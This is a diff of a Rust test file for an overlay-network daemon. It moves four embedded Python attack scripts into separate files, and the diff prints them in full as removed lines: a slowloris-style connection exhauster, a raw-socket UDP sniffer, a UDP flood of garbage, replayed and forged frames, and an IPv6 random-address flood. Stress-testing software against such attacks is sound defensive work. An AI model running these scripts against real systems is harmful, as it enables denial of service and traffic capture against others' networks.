@@ -272,38 +272,7 @@ fn stop(p: (KillOnDrop, PathBuf)) -> String {
 /// addresses SRCS, round robin; sends a frame length of 32 (a first handshake message) a byte
 /// at a time and then its bytes, one each half second (a handshake that never completes); dials again for each one the server closes.
 /// Stops after SECS or ATTEMPTS dials, or half a second after SIGTERM. Prints `attempts opened closed peak`.
-const SLOWLORIS: &str = r#"
-import socket, sys, time, resource, signal
-resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
-signal.signal(signal.SIGTERM, lambda *_: setattr(sys.modules[__name__], 'deadline', 0))
-host = sys.argv[1]; ports = [int(p) for p in sys.argv[2].split(',')]
-srcs = sys.argv[3].split(','); want = int(sys.argv[4])
-deadline = time.time() + float(sys.argv[5]); max_attempts = int(sys.argv[6])
-conns = []; attempts = opened = closed = peak = 0
-while time.time() < deadline and attempts < max_attempts:
-    while len(conns) < want and attempts < max_attempts:
-        s = socket.socket(); s.setblocking(False)
-        try:
-            s.bind((srcs[(attempts // len(ports)) % len(srcs)], 0))
-            s.connect_ex((host, ports[attempts % len(ports)]))
-            conns.append([s, 0]); opened += 1
-        except OSError:
-            s.close()
-        attempts += 1
-    peak = max(peak, len(conns))
-    alive = []
-    for c in conns:
-        try:
-            c[0].send(b'\x20' if c[1] == 1 else b'\x00'); c[1] += 1
-            alive.append(c)
-        except BlockingIOError:
-            alive.append(c)
-        except OSError:
-            c[0].close(); closed += 1
-    conns = alive
-    time.sleep(0.5)
-print(attempts, opened, closed, peak, flush=True)
-"#;
+const SLOWLORIS: &str = include_str!("attack/slowloris.py");
 
 /// Connections the flood keeps open: well over every cap of both listeners together (the link
 /// listener's 128 connections, the messenger's 384), under the attacker's own descriptor limit.
@@ -547,61 +516,13 @@ fn connect_in_ok(ns: &str, addr: &str) -> bool {
 /// Captures the UDP payloads arriving at PORT on the interfaces IFS (an AF_PACKET socket each,
 /// incoming only, single datagrams: merged GRO/GSO ones are skipped) for SECS or CAP of them,
 /// and writes them to OUT as `u16 length | bytes`. Prints how many.
-const SNIFF: &str = r#"
-import socket, sys, time, struct, select
-ifs = sys.argv[1].split(','); port = int(sys.argv[2])
-deadline = time.time() + float(sys.argv[3]); cap = int(sys.argv[4]); out = sys.argv[5]
-socks = []
-for i in ifs:
-    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800)); s.bind((i, 0))
-    socks.append(s)
-print('ready', flush=True)
-got = []
-while time.time() < deadline and len(got) < cap:
-    r, _, _ = select.select(socks, [], [], 0.2)
-    for s in r:
-        p, addr = s.recvfrom(65535)
-        if addr[2] == socket.PACKET_OUTGOING: continue
-        ip = p[14:]
-        if len(ip) < 28 or ip[9] != 17: continue
-        udp = ip[(ip[0] & 15) * 4:]
-        dport, ulen = struct.unpack('>HH', udp[2:6])
-        pl = udp[8:]
-        if dport != port or ulen != len(pl) + 8 or len(pl) > 1472: continue
-        got.append(pl)
-with open(out, 'wb') as f:
-    for pl in got: f.write(struct.pack('>H', len(pl)) + pl)
-print(len(got), flush=True)
-"#;
+const SNIFF: &str = include_str!("attack/sniff.py");
 
 /// Sends to HOST at PORTS, round robin, for SECS or CAP datagrams: garbage of random length, a
 /// random type byte, headers with a random receiver id 1..16 (unknown sessions), the captured
 /// frames of FILE again as they were (replays), and captured frames with a fresh counter and a
 /// flipped byte (live receiver id, bad tag). Prints `sent captured` and the count of each kind.
-const UDP_FLOOD: &str = r#"
-import socket, sys, random, time, struct
-rnd = random.Random(3); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-host = sys.argv[1]; ports = [int(p) for p in sys.argv[2].split(',')]
-deadline = time.time() + float(sys.argv[3]); cap = int(sys.argv[4])
-data = open(sys.argv[5], 'rb').read(); frames = []; off = 0
-while off + 2 <= len(data):
-    n = struct.unpack('>H', data[off:off + 2])[0]; frames.append(data[off + 2:off + 2 + n]); off += 2 + n
-frames = [f for f in frames if len(f) >= 60]
-n = 0; kinds = [0] * 5
-while time.time() < deadline and n < cap:
-    k = n % 5
-    if k == 0: b = rnd.randbytes(rnd.randrange(0, 1400))
-    elif k == 1: b = bytes([rnd.randrange(3, 256)]) + rnd.randbytes(60)
-    elif k == 2: b = bytes([2, 0, 0, 0]) + struct.pack('<IQIQ', rnd.randrange(1, 17), rnd.getrandbits(40), 100, rnd.getrandbits(40)) + rnd.randbytes(rnd.randrange(32, 1200))
-    elif k == 3: b = frames[(n // 5) % len(frames)]
-    else:
-        f = bytearray(frames[(n // 5) % len(frames)])
-        f[8:16] = struct.pack('<Q', (1 << 40) + n); f[-1] ^= 0xff; b = bytes(f)
-    try: s.sendto(b, (host, ports[n % len(ports)]))
-    except OSError: pass
-    n += 1; kinds[k] += 1
-print(n, len(frames), *kinds, flush=True)
-"#;
+const UDP_FLOOD: &str = include_str!("attack/udp_flood.py");
 
 /// How long the capture may run (it stops at CAPTURE_MAX frames first, during the transfer).
 const CAPTURE_SECS: u64 = 10;
@@ -705,17 +626,7 @@ fn garbage_forged_and_replayed_udp_at_the_data_port() {
 
 /// Sends UDP to random addresses in fd73:6b79::/32 (the overlay prefix) for SECS or CAP
 /// datagrams, as fast as it can. Prints how many.
-const PUNT_FLOOD: &str = r#"
-import socket, sys, random, time
-rnd = random.Random(5); s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
-deadline = time.time() + float(sys.argv[1]); cap = int(sys.argv[2]); n = 0; failed = 0
-while time.time() < deadline and n < cap:
-    a = 'fd73:6b79:' + ':'.join('%x' % rnd.getrandbits(16) for _ in range(6))
-    try: s.sendto(b'x' * 64, (a, 9))
-    except OSError: failed += 1
-    n += 1
-print(n, failed, flush=True)
-"#;
+const PUNT_FLOOD: &str = include_str!("attack/punt_flood.py");
 
 /// How long the punt flood runs.
 const PUNT_SECS: u64 = 5;
